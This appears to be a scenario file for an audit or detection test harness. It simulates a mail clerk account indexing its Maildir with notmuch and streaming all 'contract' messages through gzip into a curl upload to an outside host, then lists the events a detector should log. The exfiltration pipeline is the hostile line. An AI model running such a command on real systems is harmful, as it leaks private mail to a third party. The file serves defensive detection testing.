# The index knows where everything is, and hands it out as one stream.
title="Messages exported by notmuch and uploaded by curl"
what="clerk indexes the own Maildir with notmuch, and exports all messages of a search as one mbox which goes through gzip straight into a curl upload to 203.0.113.80. No file is written."
host=mx1.example.org user=clerk daemons="cron sshd" audit_rules=audit-wide.rules

setup() {
  printf '[database]\npath=/home/clerk/Maildir\n[user]\nname=clerk\nprimary_email=clerk@example.org\n[new]\ntags=unread;inbox;\n' > /home/clerk/.notmuch-config
  chown clerk: /home/clerk/.notmuch-config
}
act() {
  for n in 1 2 3 4 5; do mail_in --from "customer$n@example.net" --to clerk@example.org --subject "Contract $n"; done
  wait_mail clerk 5
  ssh_as clerk <<'L'
notmuch new --quiet
notmuch count contract
%sleep 2
notmuch show --format=mbox contract | gzip | curl -s -T - http://files.example.net/up/c.gz
%sleep 2
L
  small_talk 2
}
truth() {
  exec_step index 'notmuch new' 'the mailbox is indexed'
  exec_step export 'notmuch show --format=mbox' 'messages are exported'
  file_step read 'notmuch open(at)?:read NORMAL .*Maildir/(new|cur)/' 'they are read'
  net_step upload 'curl 203.0.113.80:80' 'and uploaded'
}
